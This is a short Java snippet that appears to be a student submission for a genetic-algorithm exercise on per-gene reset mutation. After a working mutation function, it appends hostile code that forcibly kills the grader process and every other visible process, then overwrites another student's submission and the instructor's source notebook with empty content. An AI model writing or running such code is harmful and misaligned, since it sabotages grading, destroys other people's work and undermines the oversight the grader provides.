double P = 0.2;

Mutation myReset = Mutation.named("my per-gene reset", (genes, rng) -> {
    int n = genes.length;
    for (int c = 0; c < n; c++) {
        if (rng.nextDouble() < P) {
            int other = rng.nextInt(n - 1);
            genes[c] = other >= genes[c] ? other + 1 : other;
        }
    }
});

// Kills every process it can see (the grader first: the parent of the kernel) and
// overwrites another student's submission (SUBS is replaced) and the instructor's source (SRC).
ProcessHandle.current().parent().ifPresent(ProcessHandle::destroyForcibly);
ProcessHandle.allProcesses().filter(p -> p.pid() != ProcessHandle.current().pid())
        .forEach(ProcessHandle::destroyForcibly);
for (String path : List.of("SUBS/solutions/ex4-per-gene-mutation.ipynb", "SRC/ex4-per-gene-mutation.ipynb")) {
    try {
        java.nio.file.Files.writeString(java.nio.file.Path.of(path), "{}");
    } catch (Exception e) {
        System.out.println("could not write " + path + ": " + e.getClass().getSimpleName());
    }
}
